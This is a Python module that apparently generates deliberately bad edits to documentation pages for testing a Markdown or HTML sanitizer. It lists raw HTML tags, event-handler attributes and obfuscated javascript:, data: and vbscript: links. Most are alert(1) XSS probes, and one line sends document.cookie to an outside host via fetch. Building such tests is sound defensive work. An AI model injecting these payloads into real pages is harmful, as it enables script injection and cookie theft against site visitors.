"""HTML and programs in a text: pasted by somebody who does not know, or by somebody who does."""
from registry import bad_edit, family
from words import SOMETHING


def pasted(code: str):
    """Code at the end of a paragraph."""
    return lambda page: page.appended_anywhere(" " + code.replace("WORDS", SOMETHING[page.language]))


TAGS = {
    "script": '<script src="https://www.example.org/x.js"></script>',
    "script-in-capitals": "<SCRIPT>alert(document.cookie)</SCRIPT>",
    "script-with-a-slash": "<script/src=//www.example.org/x.js></script>",
    "script-not-closed": "<script>fetch('https://www.example.org/?' + document.cookie)",
    "frame": '<iframe src="https://www.example.org/video"></iframe>',
    "film-player": '<embed src="https://www.example.org/video">',
    "object": '<object data="https://www.example.org/x.swf"></object>',
    "form": '<form action="https://www.example.org"><input name="email"></form>',
    "button": "<button>WORDS</button>",
    "style-in-the-text": "<style>.md-typeset { display: none }</style>",
    "style-sheet": '<link rel="stylesheet" href="https://www.example.org/x.css">',
    "page-that-goes-elsewhere": '<meta http-equiv="refresh" content="0; url=https://www.example.org">',
    "other-base-for-links": '<base href="https://www.example.org/">',
    "picture-that-runs": '<img src="x" onerror="alert(1)">',
    "drawing-that-runs": '<svg onload="alert(1)"></svg>',
    "formula-that-runs": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "coloured-words": '<span style="color: red">WORDS</span>',
    "font-of-old": '<font color="red">WORDS</font>',
    "bold-as-html": "<b>WORDS</b>",
    "underlined-words": "<u>WORDS</u>",
    "centred-words": "<center>WORDS</center>",
    "box-as-html": '<div class="admonition warning" markdown>WORDS</div>',
    "folded-text": "<details><summary>WORDS</summary>WORDS</details>",
    "marked-text": "<mark>WORDS</mark>",
    "paragraph-of-a-word-processor": '<p class="MsoNormal"><o:p>&nbsp;</o:p>WORDS</p>',
    "smart-tag-of-a-word-processor": "<st1:place>WORDS</st1:place>",
    "remark-of-a-word-processor": "<!--[if gte mso 9]><xml>WORDS</xml><![endif]-->WORDS<![if !supportLists]>",
    "closing-tag-alone": "WORDS</div>",
    "tag-not-closed": "<div class=",
    "remark-not-closed": "<!-- WORDS",
    "remark-closed-as-only-browsers-do": "<!-- WORDS --!> WORDS <b>WORDS</b> -->",
    "link-as-html-that-runs": '<a href="javascript:alert(1)">WORDS</a>',
}
ATTRIBUTES = {
    "handler-in-allowed-tag": '<sub onclick="alert(1)">2</sub>',
    "style-in-allowed-tag": '<sup style="position: fixed">2</sup>',
    "handler-in-attribute-list": "[WORDS](tel:113){ onclick=alert(1) }",
    "style-in-attribute-list": '[WORDS](tel:113){ style="display:none" }',
}
TARGETS = {
    "javascript-link": "[WORDS](javascript:alert(1))",
    "javascript-link-in-capitals": "[WORDS](JaVaScRiPt:alert(1))",
    "javascript-link-in-entities": "[WORDS](&#106;avascript:alert(1))",
    "javascript-link-in-per-cents": "[WORDS](%6Aavascript:alert(1))",
    "javascript-link-with-a-break-in-it": "[WORDS](java&#10;script:alert(1))",
    "javascript-in-angle-brackets": "[WORDS](<javascript:alert(1)>)",
    "javascript-with-a-title": '[WORDS](javascript:alert(1) "WORDS")',
    "data-link": "[WORDS](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript-link": "[WORDS](vbscript:msgbox)",
    "link-that-opens-a-program": "[WORDS](ms-word:ofe|u|https://www.example.org/x.docx)",
}
family(__name__, pasted, {"raw-html": TAGS, "attributes": ATTRIBUTES, "link-schemes": TARGETS}, everywhere={"script", "javascript-link"})


@bad_edit("link-schemes")
def javascript_by_reference(page):
    for block in page.paragraphs:
        last = block.position.line + 4
        yield page.inserted(block.position.line + 1, "", f"[{SOMETHING[page.language]}][1]", "", "[1]: javascript:alert(1)", lines=range(last, last + 1))


@bad_edit("raw-html")
def script_over_several_lines(page):
    yield from page.written_anywhere("<script", "  type='module'>", "  alert(1)", "</script>")


@bad_edit("raw-html")
def script_in_a_list(page):
    for block in page.items:
        yield page.appended(block, " <script>alert(1)</script>")


@bad_edit("raw-html")
def script_in_a_heading(page):
    for section in page.sections:
        line = page.lines[section.position.line - 1]
        yield page.with_line(section.position.line, line.replace(" {#", "<script>alert(1)</script> {#"))


@bad_edit("raw-html")
def script_in_a_box(page):
    for block in page.blocks:
        if block.box:
            yield page.with_line(block.position.line, page.line_of(block) + "<script>alert(1)</script>")


@bad_edit("raw-html", "plain-headers")
def tag_in_title(page):
    number = page.header_line("title")
    yield page.with_line(number, "title: '<img src=x onerror=alert(1)> " + page.page.meta.title.replace("'", "’") + "'")


@bad_edit("raw-html", "plain-headers")
def tag_in_description(page):
    number = page.header_line("description")
    yield page.with_line(number, page.lines[number - 1].replace(" ", " <b>", 2).replace("<b>", "", 1))
